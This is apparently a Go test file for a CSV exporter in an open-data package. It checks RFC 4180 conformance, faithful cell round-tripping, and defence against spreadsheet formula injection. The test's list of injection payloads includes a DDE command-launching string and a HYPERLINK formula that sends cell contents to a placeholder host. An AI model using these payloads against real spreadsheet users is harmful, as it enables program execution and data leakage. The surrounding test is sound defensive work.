package opendata

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
)

// rows reads a file of CSV as a reader of RFC 4180 does.
func rows(t testing.TB, file []byte, comma rune) [][]string {
	t.Helper()
	rest, marked := bytes.CutPrefix(file, []byte(mark))
	if !marked {
		t.Fatal("the file does not begin with a byte order mark")
	}
	r := csv.NewReader(bytes.NewReader(rest))
	r.Comma = comma
	if comma != ',' { // as what does not keep to it
		r.LazyQuotes, r.FieldsPerRecord = true, -1
	}
	all, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return all
}

// attacks are texts that a spreadsheet may run (owasp.org/www-community/attacks/CSV_Injection).
var attacks = []string{
	`=cmd|' /C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1)`, "\t=1+1", "\r=1+1", "  =1+1", `"=1+1"`, `a;=1+1`, `a;"=1+1"`, `a;""=1+1`, "a\n=1+1", `a,=1+1`,
	`＝1+1`, `－1`, "\u00a0=1+1", "a; ;=1", `=HYPERLINK("https://a.example?"&A1,"a")`, `;;=1`, `|=1`,
}

// runs tells whether a spreadsheet would run a cell.
func runs(cell string) bool {
	cell = strings.TrimLeft(cell, " \t\r\n\"")
	return begins([]byte(cell))
}

func TestNoCellIsRunAsAFormula(t *testing.T) {
	for _, attack := range attacks {
		g, addresses := wild(t, "x"+attack)
		check := func(attack string, file []byte) {
			for _, row := range rows(t, file, ',')[1:] {
				for i, cell := range row {
					if number := strings.Trim(cell, "-.0123456789") == ""; !number && begins([]byte(strings.TrimLeft(cell, " "))) {
						t.Errorf("%q: the cell %d is %q", attack, i, cell)
					}
				}
			}
			for _, row := range rows(t, file, ';') {
				for i, cell := range row[1:] {
					if runs(cell) {
						t.Errorf("%q: where semicolons divide, the cell %d is %q", attack, i+1, cell)
					}
				}
			}
		}
		for _, p := range g.Practices { // what a check of a guide would refuse must be harmless, too
			p.Original.Title, p.Original.Summary, p.Original.Label = attack, attack, attack
			p.Accounts[0].ToldBy = attack
		}
		files := made(t, New(g, addresses, g.Languages[0], ""))
		for name, file := range files {
			if strings.HasSuffix(name, ".csv") {
				check(attack, file)
			}
		}
	}
}

func TestCellsReadAsTheyWereWritten(t *testing.T) {
	for text, want := range map[string]string{
		`plain`: "plain", `a, b`: "a, b", `say "a"`: `say "a"`, "l’eau\u00a0: «\u202fmoi\u202f»": "l'eau : « moi »", "a\nb": "a b",
		`a|b`: "a|b", "“a” ‘b’": `"a" 'b'`, "été": "été", "a\x00b": "ab", "–": "–", "=a": "'=a", "1 - 2; 3": "1 - 2; 3", "": "",
	} {
		c := column{}
		out := c.cell([]byte("before,"), []string{text})
		if got := rows(t, append([]byte(mark), out...), ',')[0][1]; got != want {
			t.Errorf("%q is read as %q, want %q", text, got, want)
		}
	}
	c := column{group: "list"}
	if got := string(c.cell(nil, []string{"a|b", "", "c"})); got != "a/b||c" {
		t.Errorf("a list is %q", got)
	}
}

func TestTablesAreThoseOfRFC4180(t *testing.T) {
	g, addresses := golden(t)
	for _, l := range g.Languages {
		p := New(g, addresses, l, "")
		files := made(t, p)
		for _, f := range p.files {
			if f.Format != "csv" {
				continue
			}
			file := files[f.Name()]
			if lines := bytes.Count(file, []byte("\n")); lines != f.Rows+1 || bytes.Count(file, []byte("\r\n")) != lines {
				t.Errorf("%s has %d lines for %d rows", f.Path, lines, f.Rows)
			}
			all := rows(t, file, ',')
			if len(all) != f.Rows+1 {
				t.Errorf("%s has %d rows, not %d", f.Path, len(all)-1, f.Rows)
			}
			checkGroups(t, f, all)
		}
	}
}

// checkGroups tells whether the columns of a group have the same number of values.
func checkGroups(t *testing.T, f *File, all [][]string) {
	t.Helper()
	for _, row := range all[1:] {
		n := map[string]int{}
		for i, name := range all[0] {
			group, _, grouped := strings.Cut(name, ".")
			if values := strings.Count(row[i], separator); !grouped {
				continue
			} else if before, known := n[group]; known && before != values {
				t.Errorf("%s: %s of %s has %d values, another column of the group %d", f.Path, name, row[0], values+1, before+1)
			} else {
				n[group] = values
			}
		}
	}
}
